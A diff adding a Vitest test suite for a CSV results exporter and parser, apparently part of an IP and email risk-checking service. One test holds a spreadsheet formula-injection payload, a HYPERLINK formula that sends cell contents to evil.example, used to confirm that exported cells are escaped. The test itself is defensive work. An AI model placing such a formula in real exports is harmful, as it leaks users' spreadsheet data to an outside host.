@@ -1,0 +1,132 @@
+import { Readable } from 'node:stream'
+import { describe, expect, it } from 'vitest'
+import { pendingRow } from './fold.js'
+import { createResultsCsv, csvColumns, csvRecord, readCsvRecords } from './csv.js'
+import type { BulkRowRecord } from './types.js'
+
+async function text(stream: Readable): Promise<string> {
+  let s = ''
+  for await (const chunk of stream) s += String(chunk)
+  return s
+}
+
+async function records(input: string | string[]): Promise<string[][]> {
+  const out: string[][] = []
+  for await (const r of readCsvRecords(Readable.from(Array.isArray(input) ? input : [input]))) out.push(r)
+  return out
+}
+
+async function* rowsOf(rows: BulkRowRecord[]) {
+  for (const r of rows) yield [r]
+}
+
+const ipRow = (input: string, details: Record<string, unknown>): BulkRowRecord => ({
+  ...pendingRow(0, input),
+  state: 'done',
+  action: 'review',
+  status: 'risky',
+  reason: 'The address is a Tor exit node.',
+  risk_score: 80,
+  credits_used: 1,
+  cache_hit: false,
+  details,
+})
+
+describe('results CSV', () => {
+  it('has the decided columns: base columns, then the details flattened to dotted names in schema order', () => {
+    const cols = csvColumns('ip')
+    expect(cols.slice(0, 8)).toEqual(['input', 'action', 'status', 'reason', 'risk_score', 'credits_used', 'cache_hit', 'error'])
+    expect(cols.slice(8, 11)).toEqual(['details.ip', 'details.version', 'details.location.country'].map((c) => c.replace('details.', '')))
+    expect(cols).toContain('flags.on_blocklists')
+    expect(cols).toContain('network.connection_type')
+    expect(csvColumns('email')).toContain('mx_records')
+    expect(csvColumns('email_auth')).toContain('dkim.selectors_found')
+    expect(new Set(cols).size).toBe(cols.length)
+  })
+
+  it('joins arrays with ";", writes booleans as true/false and null as an empty cell', () => {
+    const row = ipRow('1.2.3.4', {
+      ip: '1.2.3.4',
+      version: 4,
+      location: { country: null, country_code: 'DE', lat: -33.5 },
+      flags: { is_tor: true, is_vpn: false, on_blocklists: ['spamhaus-drop', 'firehol'] },
+    })
+    const rec = csvRecord('ip', row)
+    const cols = csvColumns('ip')
+    const at = (c: string) => rec[cols.indexOf(c)]
+    expect(at('flags.on_blocklists')).toBe('spamhaus-drop;firehol')
+    expect(at('location.country')).toBeNull()
+    expect(at('location.lat')).toBe(-33.5)
+    expect(at('flags.is_tor')).toBe(true)
+    expect(at('network.asn')).toBeNull() // missing in the details: empty
+  })
+
+  it('escapes formulas: an input like =HYPERLINK(...) never becomes a live formula; negative numbers stay numbers', async () => {
+    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    const rows = [
+      ipRow(evil, { ip: '+1', version: 4, location: { lat: -12.25, city: '@SUM(A1)' }, flags: { is_tor: false } }),
+      { ...pendingRow(1, '-2+3'), state: 'error' as const, error: 'INVALID_INPUT: cannot parse' },
+    ]
+    const csv = await text(createResultsCsv('ip', rowsOf(rows)))
+    const lines = csv.trimEnd().split('\n')
+    expect(lines[0]).toBe(csvColumns('ip').join(','))
+    expect(lines).toHaveLength(3)
+    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`)
+    const parsed = await records(csv)
+    const cols = parsed[0]!
+    const first = parsed[1]!
+    const cell = (r: string[], c: string) => r[cols.indexOf(c)]
+    expect(cell(first, 'input')).toBe(`'${evil}`)
+    expect(cell(first, 'ip')).toBe("'+1")
+    expect(cell(first, 'location.city')).toBe("'@SUM(A1)")
+    expect(cell(first, 'location.lat')).toBe('-12.25')
+    expect(cell(first, 'flags.is_tor')).toBe('false')
+    expect(cell(first, 'cache_hit')).toBe('false')
+    expect(cell(first, 'risk_score')).toBe('80')
+    const second = parsed[2]!
+    expect(cell(second, 'input')).toBe("'-2+3")
+    expect(cell(second, 'action')).toBe('')
+    expect(cell(second, 'error')).toBe('INVALID_INPUT: cannot parse')
+    for (const r of parsed) expect(r).toHaveLength(cols.length)
+  })
+
+  it('destroys the stream when the rows fail', async () => {
+    async function* broken(): AsyncGenerator<BulkRowRecord[]> {
+      yield [ipRow('1.1.1.1', {})]
+      throw new Error('store went away')
+    }
+    await expect(text(createResultsCsv('ip', broken()))).rejects.toThrow('store went away')
+  })
+})
+
+describe('readCsvRecords', () => {
+  it('reads quoted fields with commas, quotes and line breaks, CRLF and LF, a BOM, and skips empty lines', async () => {
+    const csv = '\uFEFFemail,name\r\n"a@x.com","Doe, Jane"\r\n\r\nb@y.com,"say ""hi"""\n"multi\nline",\n,\n"",last'
+    expect(await records(csv)).toEqual([
+      ['email', 'name'],
+      ['a@x.com', 'Doe, Jane'],
+      ['b@y.com', 'say "hi"'],
+      ['multi\nline', ''],
+      ['', ''],
+      ['', 'last'],
+    ])
+  })
+
+  it('gives the same records whatever the chunking', async () => {
+    const csv = 'a,"b,""c"""\r\n"d\r\ne",f\r\n'
+    const whole = await records(csv)
+    for (let cut = 1; cut < csv.length; cut++) expect(await records([csv.slice(0, cut), csv.slice(cut)])).toEqual(whole)
+    expect(whole).toEqual([
+      ['a', 'b,"c"'],
+      ['d\r\ne', 'f'],
+    ])
+  })
+
+  it('caps a runaway field', async () => {
+    let cut = 0
+    const out: string[][] = []
+    for await (const r of readCsvRecords(Readable.from(['"' + 'x'.repeat(100)]), { maxField: 10, onTruncated: () => cut++ })) out.push(r)
+    expect(out).toEqual([['x'.repeat(10)]])
+    expect(cut).toBe(90)
+  })
+})
